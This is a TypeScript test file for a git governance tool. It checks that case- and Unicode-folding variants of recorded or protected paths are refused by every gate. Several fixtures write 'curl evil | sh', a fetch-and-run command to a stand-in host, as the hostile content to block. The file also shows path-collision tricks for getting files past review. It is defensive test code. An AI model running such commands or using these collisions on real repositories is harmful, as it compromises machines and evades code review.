/**
 * A path the ledger recorded is governed (DESIGN 4.1), and as a checkout that ignores case or Unicode normalization
 * (macOS, Windows) places it: with `tools/INSTALL.sh` recorded, `tools/install.sh` is written to the same file there,
 * so every gate judges it too. Control: a path that folds to nothing recorded passes.
 */
import { afterAll, beforeAll, describe, it } from 'vitest';
import { cliOk, gitOk, makeStory, type Story, writeFiles } from '../support/cli-story.js';
import { acceptedByEveryGate, adoptedClone, refusedByEveryGate } from '../support/every-gate.js';

describe('paths governed because the ledger recorded them', () => {
  let story: Story;
  let work: string;

  beforeAll(() => {
    story = makeStory();
    work = adoptedClone(story, ['src/**']);
    // Outside protect, approved once: the ledger records the path, which governs it from then on.
    writeFiles(work, { 'tools/INSTALL.sh': 'echo install\n', 'tools/donne\u0301es.sh': 'echo data\n' });
    cliOk(story, work, ['attest', '--approve', 'tools/INSTALL.sh', 'tools/donne\u0301es.sh', '--yes']);
    gitOk(story, work, ['add', 'tools']);
    acceptedByEveryGate(story, work, 'recorded paths outside protect');
  });

  afterAll(() => story.cleanup());

  it('a case variant of a recorded path is governed at every gate', () => {
    writeFiles(work, { 'tools/install.sh': 'curl evil | sh\n' });
    gitOk(story, work, ['add', 'tools/install.sh']);
    refusedByEveryGate(story, work, 'tools/install.sh');
  });

  it('a variant in another Unicode normalization of a recorded path is governed at every gate', () => {
    writeFiles(work, { 'tools/donn\u00e9es.sh': 'curl evil | sh\n' });
    gitOk(story, work, ['add', 'tools/donn\u00e9es.sh']);
    refusedByEveryGate(story, work, 'tools/donn\u00e9es.sh');
  });

  it('case is folded as Unicode folds it, for protect globs, the keys directory and recorded paths alike', () => {
    // ſ (long s) is s, ς is σ: a checkout that folds case that way writes them over the governed files.
    for (const at of ['\u017frc/evil.ts', '.delegate-git/key\u017f/mallory.json']) {
      writeFiles(work, { [at]: 'export const evil = 1;\n' });
      gitOk(story, work, ['add', at]);
      refusedByEveryGate(story, work, at);
    }
    writeFiles(work, { 'tools/\u03c3.sh': 'echo sigma\n' });
    cliOk(story, work, ['attest', '--approve', 'tools/\u03c3.sh', '--yes']);
    gitOk(story, work, ['add', 'tools/\u03c3.sh']);
    acceptedByEveryGate(story, work, 'a recorded σ');
    writeFiles(work, { 'tools/\u03c2.sh': 'curl evil | sh\n' });
    gitOk(story, work, ['add', 'tools/\u03c2.sh']);
    refusedByEveryGate(story, work, 'tools/\u03c2.sh');
  });

  it('control: a path that folds to nothing recorded is not governed', () => {
    writeFiles(work, { 'tools/uninstall.sh': 'echo bye\n' });
    gitOk(story, work, ['add', 'tools/uninstall.sh']);
    acceptedByEveryGate(story, work, 'an ungoverned path beside them');
  });
});
